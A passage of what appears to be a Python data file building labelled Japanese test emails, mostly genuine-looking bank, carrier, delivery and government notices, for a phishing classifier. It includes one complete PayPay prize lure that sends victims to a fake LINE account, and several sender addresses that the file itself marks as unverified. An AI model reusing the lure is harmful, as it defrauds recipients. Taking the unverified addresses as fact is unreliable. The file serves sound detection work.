  tricks='genuine billing notice from cj.jcb.co.jp (listed on jcb.co.jp); local part guessed')

G('ekinet-otp-genuine', 'えきねっと', ('えきねっと', 'info@eki-net.com'),
  '【えきねっと】ワンタイムパスワードのお知らせ',
  '''えきねっとへのログインに必要なワンタイムパスワードをお知らせします。

ワンタイムパスワード：719350
有効期限：発行から10分

お心当たりのない場合は、このメールを破棄し、パスワードの変更をご検討ください。

株式会社JR東日本ネットステーション''',
  D('2025-12-20 07:42:00'), auth=A('m365', mfrom='eki-net.com', dkim_d='eki-net.com'), cte='base64', crlf=True,
  tricks='hard genuine: OTP mail without link; eki-net.com verified; CRLF')

G('aeon-bank-transfer-genuine', 'イオン銀行', ('イオン銀行', 'info@aeonbank.co.jp'),
  '【イオン銀行】お振込受付のお知らせ',
  '''イオン銀行をご利用いただきありがとうございます。
インターネットバンキングで以下のお振込を受け付けました。

受付日時：2024/09/25 08:05
振込金額：30,000円
振込先：ゆうちょ銀行 〇一八店

お心当たりのない場合は、イオン銀行コールセンターまでご連絡ください。
株式会社イオン銀行''',
  D('2024-09-25 08:05:20'), auth=A('gmail'), charset='shift_jis', cte='quoted-printable', subj_enc='b-utf8',
  tricks='genuine transfer receipt; aeonbank.co.jp from memory (UNVERIFIED); Shift_JIS QP')

G('tax-accountant-mentions-nta-brands', '国税庁', ('山田会計事務所', 'info@yamada-kaikei.example.jp'),
  '確定申告書類のご準備について（e-Tax・マイナポータル連携）',
  '''お客様各位

今年も確定申告の時期が近づいてまいりました。
e-Taxでの申告にあたり、マイナポータル連携で医療費通知やふるさと納税の証明書を取得できます。
また、Amazonや楽天市場でのご購入で経費になるものは、領収書のPDFを保存しておいてください。

最近、国税庁をかたる「未納税金」メールが増えております。
国税庁がメールで納付を求めることはありませんので、ご注意ください。

山田会計事務所 税理士 山田 一郎''',
  D('2025-01-15 10:00:00'), auth=None, charset='iso-2022-jp', cte='7bit', subj_enc='b-jis',
  tricks='no Authentication-Results (small office, receiving server adds none); hard genuine: tax accountant mentions 国税庁, e-Tax, Amazon, 楽天市場 and warns about 未納税金 lures; small-office domain (example.jp)')

G('au-pay-market-newsletter-genuine', 'au PAY', ('au PAY マーケット', 'info@wowma.jp'),
  '【au PAY マーケット】三太郎の日 最大20%還元',
  '''au PAY マーケットをご利用いただきありがとうございます。
毎月3のつく日は三太郎の日！ Pontaポイント最大20%還元。

[[キャンペーン詳細|https://wowma.jp/event/santaro/index.html?aff_id=ml]]

配信停止はマイページから行えます。
auコマース&ライフ株式会社''',
  D('2024-08-13 08:00:00'), auth=A('gmail', mfrom='wowma.jp', dkim_d='wowma.jp'), struct='alt', cte='base64',
  tricks='genuine group-company newsletter on the legacy wowma.jp domain (from memory, UNVERIFIED); ポイント還元 wording')

G('docomo-dbarai-payment-failed-genuine', 'NTTドコモ', ('d払い', 'dbarai@docomo.ne.jp'),
  '【d払い】お支払いができませんでした',
  '''d払いをご利用いただきありがとうございます。
以下のお支払いが完了しませんでした。

日時：2025/08/30 19:44
ご利用先：Netflix
金額：1,590円
理由：ご利用可能額の超過

お支払い方法の設定はd払いアプリからご確認ください。
株式会社NTTドコモ''',
  D('2025-08-30 19:44:30'), auth=A('isp', mfrom='docomo.ne.jp', dkim_d='docomo.ne.jp'), cte='quoted-printable',
  tricks='hard genuine: real payment failure naming another brand (Netflix), no link; sender UNVERIFIED')

G('yucho-dm-newsletter-tracker', 'ゆうちょ銀行', ('ゆうちょ銀行', 'yucho-news@jp-bank.japanpost.jp'),
  '【ゆうちょ銀行】ゆうちょ通帳アプリ 新機能のご案内',
  '''いつもゆうちょ銀行をご利用いただきありがとうございます。
ゆうちょ通帳アプリに新しい機能が追加されました。

[[新機能を見る|https://www.jp-bank.japanpost.jp/direct/pc/tsuchoapp/index.html?utm_source=mail&utm_medium=email&utm_campaign=2025oct]]

※当行からメールでパスワードや暗証番号をお伺いすることはありません。
株式会社ゆうちょ銀行''',
  D('2025-10-15 12:00:00'), auth=A('m365', mfrom='jp-bank.japanpost.jp', dkim_d='jp-bank.japanpost.jp'), struct='html', cte='base64',
  tricks='genuine HTML newsletter with utm parameters; sender UNVERIFIED')

G('japanpost-forward-by-user-genuine', '日本郵便', ('伊藤 誠', 'makoto.ito.ipad@icloud.com'),
  'Fwd: 【日本郵便】ゆうパック お届け完了のお知らせ',
  '''母の日のプレゼント、届いたみたい。念のため転送。

> 差出人: 日本郵便 <info@mail.post.japanpost.jp>
> 件名: 【日本郵便】ゆうパック お届け完了のお知らせ
>
> お問い合わせ番号：4455-6677-8899 のお荷物をお届けしました。
> お届け日時：2024年5月12日 10:31
> 日本郵便株式会社''',
  D('2024-05-12 12:00:00'), auth=A('gmail', mfrom='icloud.com', dkim_d='icloud.com', p='QUARANTINE'), to='m.ito@example.jp',
  tricks='hard genuine: genuine delivery-completed mail forwarded by the user from iCloud (quoted with >); inner sender UNVERIFIED')

# ---------------- added last: one more lure, five more hard genuine ----------------
P('paypay-line-friend-add-official-domain', 'PayPay', ('PayPay 還元キャンペーン事務局', 'cp-office@paypay-kangen.jp'),
  '【当選】PayPay残高10,000円分 受け取りのご案内',
  '''PayPayをご利用のお客様

おめでとうございます。「ありがとうキャンペーン」にてPayPay残高10,000円分に当選されました。
受け取りは、下記の「PayPay受取窓口」LINE公式アカウントを友だち追加し、
担当者の案内に従って手続きしてください。

[[友だち追加はこちら|https://line.me/R/ti/p/@paypay-uketori-0000]]

受取期限：2025年8月31日
PayPay株式会社''',
  D('2025-08-25 12:00:00'), auth=A('gmail', dmarc='none'), struct='alt', cte='base64',
  tricks='only link is on the real line.me domain (add a fake "official" LINE account, the chat does the rest); prize bait; look-alike sender passing SPF/DKIM')

G('yamato-fuzai-genuine', 'ヤマト運輸', ('ヤマト運輸', 'mail@kuronekoyamato.co.jp'),
  '【ヤマト運輸】ご不在連絡のお知らせ',
  '''加藤 涼 様

本日お荷物をお届けにあがりましたが、ご不在でしたので持ち帰りました。

伝票番号：3390-1127-6654
ご依頼主：アスクル株式会社
お預かり営業所：世田谷三軒茶屋センター

再配達のご依頼はこちら
https://member.kms.kuronekoyamato.co.jp/parcel/detail?pno=339011276654

※保管期限を過ぎますとご依頼主へ返送いたします。
ヤマト運輸株式会社''',
  D('2025-05-16 15:40:00'), auth=A('m365', mfrom='kuronekoyamato.co.jp', dkim_d='kuronekoyamato.co.jp'), cte='base64', crlf=True,
  tricks='hard genuine: real 不在連絡 (the lure\'s twin: redelivery link, return-to-sender warning) for a Kuroneko Members user; path guessed; CRLF; M365 AR')

G('outlook-mailbox-almost-full-genuine', 'Microsoft', ('Outlook.com', 'no-reply@microsoft.com'),
  'Outlook.com のメールボックスの容量がほぼいっぱいです',
  '''Outlook.com

お使いのメールボックスの使用量が上限の90%に達しました。
上限に達すると、メールの送受信ができなくなります。

不要なメールや添付ファイルを削除するか、Microsoft 365 で容量を追加してください。
[[ストレージを管理|https://outlook.live.com/mail/options/general/storage]]

Microsoft Corporation, One Microsoft Way, Redmond, WA 98052''',
  D('2024-02-27 07:15:00'), auth=A('gmail', mfrom='microsoft.com', dkim_d='microsoft.com', p='REJECT'), struct='html', cte='quoted-printable',
  tricks='hard genuine: real storage-full warning (twin of the quota lure) linking to outlook.live.com; sender from memory (UNVERIFIED)')

G('google-play-receipt-genuine', 'Google', ('Google Play', 'googleplay-noreply@google.com'),
  'Google Play のご注文明細（2025/09/02）',
  '''Google Play をご利用いただきありがとうございます。

注文番号：GPA.3381-2201-7740-55921
YouTube Premium（1 か月）  ¥1,280
お支払い方法：キャリア決済（au）

定期購入の管理：https://play.google.com/store/account/subscriptions

Google LLC''',
  D('2025-09-02 04:10:00'), auth=A('isp', mfrom='google.com', dkim_d='google.com'), struct='alt', cte='base64',
  tricks='genuine receipt from googleplay-noreply@google.com (from memory, UNVERIFIED); carrier billing')

G('soumu-mailmag-genuine', '総務省', ('総務省', 'mailmag@soumu.go.jp'),
  '総務省メールマガジン：マイナンバーカードの電子証明書の更新について',
  '''■マイナンバーカードの電子証明書の有効期限について
電子証明書の有効期限は発行から5回目の誕生日までです。
有効期限の2～3か月前を目安に、地方公共団体情報システム機構（J-LIS）から「有効期限通知書」が送付されます。
更新手続きはお住まいの市区町村の窓口で行ってください。

※総務省やマイナポイント事務局が、メールでマイナンバーカードの暗証番号やクレジットカード番号をお尋ねすることはありません。

総務省 https://www.soumu.go.jp/''',
  D('2025-07-10 15:00:00'), auth=A('gmail', mfrom='soumu.go.jp', dkim_d='soumu.go.jp'), charset='iso-2022-jp', cte='7bit', subj_enc='b-jis-fold',
  tricks='hard genuine: government newsletter about My Number renewal with a warning that names マイナポイント; soumu.go.jp local part guessed (UNVERIFIED)')

G('etc-mileage-point-genuine', 'ETC利用照会サービス', ('ETCマイレージサービス', 'info@smile-etc.jp'),
  '【ETCマイレージサービス】還元額確定のお知らせ',
  '''ETCマイレージサービスをご利用いただきありがとうございます。

2025年10月分の通行料金に対するポイントが還元額として確定しました。
還元額：500円分（無料通行分として自動適用されます）

※当サービスでは年会費の請求や、メールでのクレジットカード情報の入力依頼は行っておりません。

ETCマイレージサービス事務局''',
  D('2025-11-10 10:00:00'), auth=A('m365', mfrom='smile-etc.jp', dkim_d='smile-etc.jp'), cte='quoted-printable',
  tricks='genuine sister-service mail (ETCマイレージ) on smile-etc.jp (from memory, UNVERIFIED); no link; warning wording')
